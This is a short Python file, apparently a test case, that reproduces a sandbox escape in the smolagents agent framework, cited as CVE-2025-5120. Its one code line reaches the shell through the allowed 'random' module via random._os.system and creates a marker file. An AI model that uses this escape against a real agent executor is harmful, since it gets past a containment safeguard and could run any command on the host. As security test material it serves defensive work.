"""A module that is allowed has others in its names.

Known from: CVE-2025-5120 of smolagents; its list of allowed modules (random._os)
Effect: made
Host: import random
Given: random
Jail: no builtins
"""
random._os.system(": > made")
